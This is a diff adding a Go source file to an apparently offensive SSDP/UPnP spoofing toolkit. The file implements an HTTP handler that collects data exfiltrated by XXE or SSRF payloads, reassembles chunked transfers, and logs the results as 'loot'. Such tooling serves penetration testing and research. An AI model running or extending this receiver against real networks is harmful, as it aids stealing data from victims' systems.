@@ -0,0 +1,87 @@
+package upnp
+
+import (
+	"net/http"
+	"net/url"
+	"regexp"
+	"strconv"
+	"strings"
+	"time"
+
+	"goSSDPkit/pkg/events"
+	"goSSDPkit/pkg/logging"
+	"goSSDPkit/pkg/loot"
+	"goSSDPkit/pkg/ssdp"
+)
+
+// chunkIdle is how long a chunked transfer may go quiet before what
+// arrived is reassembled and reported
+const chunkIdle = 10 * time.Second
+
+// chunkPath matches a chunk of a transfer, /exfiltrated/ID/SEQ/DATA
+var chunkPath = regexp.MustCompile(`^/exfiltrated/([A-Za-z0-9-]{1,32})/([0-9]{1,6})/(.*)$`)
+
+// handleExfil reports the data an XXE or SSRF payload sent in the request,
+// reporting whether it carried any. Chunks of a transfer are kept until it
+// finishes.
+func (s *Server) handleExfil(r *http.Request) bool {
+	if m := chunkPath.FindStringSubmatch(r.URL.EscapedPath()); m != nil {
+		seq, _ := strconv.Atoi(m[2])
+		s.chunk(r, m[1], seq, unescape(m[3]))
+		return true
+	}
+	data, ok := exfilData(r)
+	if ok {
+		s.events.OnExfil(events.Exfil{Request: s.newRequest(r), Kind: events.ExfilData, Data: data})
+	}
+	return ok
+}
+
+// exfilData returns the data an XXE payload sent in an exfiltrated query
+// parameter (/?exfiltrated=DATA) or path (/exfiltrated/DATA), URL-decoded,
+// and whether the request carried any
+func exfilData(r *http.Request) (string, bool) {
+	if values, ok := r.URL.Query()["exfiltrated"]; ok {
+		return strings.Join(values, "\n"), true
+	}
+	escaped := r.URL.EscapedPath()
+	i := strings.Index(escaped, "exfiltrated")
+	if i < 0 {
+		return "", false
+	}
+	return unescape(strings.TrimLeft(escaped[i+len("exfiltrated"):], "/=")), true
+}
+
+// unescape URL-decodes a path segment, leaving it as it is if it is not
+// valid
+func unescape(data string) string {
+	if decoded, err := url.PathUnescape(data); err == nil {
+		return decoded
+	}
+	return data
+}
+
+// chunk keeps one chunk of a transfer from the request's host
+func (s *Server) chunk(r *http.Request, id string, seq int, data string) {
+	e := s.newRequest(r)
+	host := e.Host
+	if s.chunks.Add(e, id, seq, data) {
+		s.logAt(logging.LevelQuiet, "%sHost: %s, User-Agent: %s", ssdp.ExfilBox, host, e.UserAgent)
+		s.logAt(logging.LevelQuiet, "               Chunked transfer %s started", id)
+	}
+	preview := loot.Preview(data)
+	if s.redact {
+		preview = events.Redacted
+	}
+	s.logAt(logging.LevelVerbose, "%sHost: %s, transfer %s chunk %d: %s", ssdp.ExfilBox, host, id, seq, preview)
+}
+
+// chunksFinished reports a chunked transfer that went quiet, reassembled
+func (s *Server) chunksFinished(t *loot.Transfer) {
+	data, missing := t.Data()
+	s.logAt(logging.LevelQuiet, "%sHost: %s, transfer %s: %d chunk(s), %d missing", ssdp.ExfilBox, t.Request.Host, t.ID, len(t.Chunks), missing)
+	e := t.Request
+	e.Time = time.Now().UTC()
+	e.Path = "/exfiltrated/" + t.ID
+	s.events.OnExfil(events.Exfil{Request: e, Kind: events.ExfilData, Data: data})
+}